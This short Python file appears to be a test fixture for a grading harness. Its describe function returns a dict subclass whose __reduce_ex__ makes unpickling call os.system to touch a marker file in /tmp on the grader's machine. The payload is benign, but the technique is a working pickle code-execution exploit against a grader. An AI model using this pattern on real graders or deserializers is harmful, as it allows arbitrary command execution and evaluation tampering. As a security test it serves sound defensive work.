"""Values: a result whose unpickling would run code in the grader."""
DESERVES = 9
# %% describe
import os


class Bomb(dict):
    def __reduce_ex__(self, protocol):
        return os.system, ("touch /tmp/left-behind-by-a-submission-pickle",)

    __getstate__ = __deepcopy__ = __copy__ = __reduce_ex__


def describe(text):
    return Bomb(words=4, longest="Quokkas")
